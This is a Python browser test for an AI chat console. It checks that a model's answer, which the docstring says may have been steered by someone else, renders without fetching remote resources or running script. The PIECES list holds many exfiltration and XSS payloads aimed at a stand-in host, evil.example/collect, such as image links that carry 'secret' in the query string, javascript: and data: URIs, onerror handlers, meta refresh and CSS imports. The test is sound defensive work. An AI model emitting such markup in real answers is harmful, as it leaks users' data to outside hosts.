"""An answer is text of a model that may have obeyed somebody else: showing it fetches nothing and runs nothing."""

from urllib.parse import urlsplit

from playwright.sync_api import Browser, Request, expect

from tests.console.browser import settle, window
from tests.console.instance import Instance

EVIL = "http://evil.example/collect"
PIECES = (
    f"![an image]({EVIL}/image.png?q=secret)",
    f"[![both]({EVIL}/both.png)]({EVIL}/both)",
    f"[a link]({EVIL}/link?q=secret)",
    "[a script](javascript:alert(document.domain))",
    "[a page](data:text/html,<script>alert(1)</script>)",
    "![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    f"<{EVIL}/autolink>",
    f"{EVIL}/bare",
    f'<img src="{EVIL}/html.png" onerror="alert(1)">',
    f'<a href="{EVIL}/ping" ping="{EVIL}/ping2">x</a>',
    f'<link rel="prefetch" href="{EVIL}/prefetch">',
    f'<meta http-equiv="refresh" content="0; url={EVIL}/refresh">',
    f'<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/object"></object><embed src="{EVIL}/embed">',
    f'<video src="{EVIL}/video" poster="{EVIL}/poster"></video><audio src="{EVIL}/audio" autoplay></audio>',
    f'<style>@import url("{EVIL}/style.css"); body {{ background: url({EVIL}/css.png) }}</style>',
    f'<p style="background: url({EVIL}/inline.png)">styled</p>',
    f'<svg><image href="{EVIL}/svg.png" /><use href="{EVIL}/use.svg#x" /></svg>',
    f"![reference][evil] and $\\includegraphics{{{EVIL}/formula.png}}$ $\\href{{{EVIL}/formula}}{{x}}$",
    f"[evil]: {EVIL}/reference.png",
)


def test_an_answer_fetches_nothing_from_elsewhere(browser: Browser, sqlite_instance: Instance) -> None:
    instance, prompt = sqlite_instance, "\n\n".join(PIECES)
    conversation = instance.call("POST", "/api/conversations", {"title": PIECES[0]}, instance.operator)["id"]
    body = {"prompt": prompt, "conversation_id": conversation}
    answered = instance.call("POST", "/api/ai/chat", body, instance.operator)["text"]
    assert all(piece in answered for piece in PIECES), "the simulated model repeats its prompt"
    requested: list[str] = []

    def record(request: Request) -> None:
        requested.append(request.url)

    with window(browser, instance.url, token=instance.session("operator")) as page:
        page.on("request", record)
        page.goto(f"/app/chat/{conversation}")
        settle(page)
        answer = page.get_by_role("listitem", name="Answer")
        expect(answer.get_by_role("link", name="a link")).to_be_visible()
        page.wait_for_timeout(500)
        assert page.url.startswith(instance.url), "it did not lead elsewhere"
        sources = page.locator("main").evaluate(
            "main => [...main.querySelectorAll('[src],[poster],[data]')].map(e => e.src)"
        )
        assert not [source for source in sources if "evil" in source]
        leads = answer.get_by_role("link").evaluate_all("links => links.map(link => [link.protocol, link.rel])")
        assert {protocol for protocol, _ in leads} <= {"http:", "https:"}
        assert all("noreferrer" in rel for _, rel in leads)
    assert requested and {urlsplit(url).netloc for url in requested} == {urlsplit(instance.url).netloc}
